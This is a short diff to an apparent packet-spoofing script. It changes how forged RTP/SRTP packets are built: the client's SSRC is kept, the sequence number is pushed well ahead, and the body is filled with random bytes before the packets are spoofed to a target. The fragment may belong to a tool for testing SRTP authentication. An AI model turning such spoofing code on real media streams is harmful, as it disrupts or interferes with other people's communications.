@@ -106,8 +106,8 @@ def main():
     for i in range(count):
         data, target = stolen[i % len(stolen)]
         if mode == "forge":
-            # The client's SSRC, a sequence number just ahead, and a body that no key has signed.
-            ahead = (struct.unpack_from("!H", data, 2)[0] + 1 + i) & 0xFFFF
+            # The client's SSRC, a sequence number that it will not reach meanwhile, and a body that no key signed.
+            ahead = (struct.unpack_from("!H", data, 2)[0] + 500 + i) & 0xFFFF
             data = data[:2] + struct.pack("!H", ahead) + data[4:12] + os.urandom(len(data) - 12)
         spoof(raw, client, target, data)
     return count
